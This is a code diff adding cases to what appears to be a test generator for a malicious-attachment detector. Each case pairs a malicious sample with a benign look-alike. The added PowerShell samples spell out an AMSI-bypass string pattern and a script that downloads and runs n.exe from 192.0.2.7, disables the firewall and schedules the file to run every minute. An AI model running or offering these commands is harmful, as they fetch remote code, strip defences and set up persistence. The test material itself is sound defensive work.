@@ -136,6 +136,11 @@ def attached_pages(a):
     yield 'attachment-program-disguised', a('n.pdf', windows.pe()), a('n.exe', windows.pe())
     yield 'attachment-program-inside', a('n.dat', windows.pe()), a('n.dat', b'MZ text')
     yield 'attachment-name-turned', a('n\u202efdp.exe', b'text'), a('nfdp.exe', b'text')
+    patch = b"$k = 'Amsi' + 'Utils'; $f = 'amsiInit' + 'Failed'\n%s\n"
+    yield 'script-blinds-antimalware', a('n.ps1', patch % b"Start-Process 'notes.exe'"), a('n.ps1', patch % b"Write-Output $k")
+    settle = (b"(New-Object Net.WebClient).DownloadFile('http://%s/n.exe', 'n.exe')\nStart-Process 'n.exe'\n"
+              b"netsh advfirewall set allprofiles state off\nschtasks /create /sc minute /tn Notes /tr n.exe\n")
+    yield 'script-settles-unguarded', a('n.ps1', settle % b'192.0.2.7'), a('n.ps1', settle % b'10.0.2.7')
     yield 'attachment-other-script', a('n.au3', b'Run("n.exe")'), a('n.txt', b'Run("n.exe")')
 
     def document(kind, target):
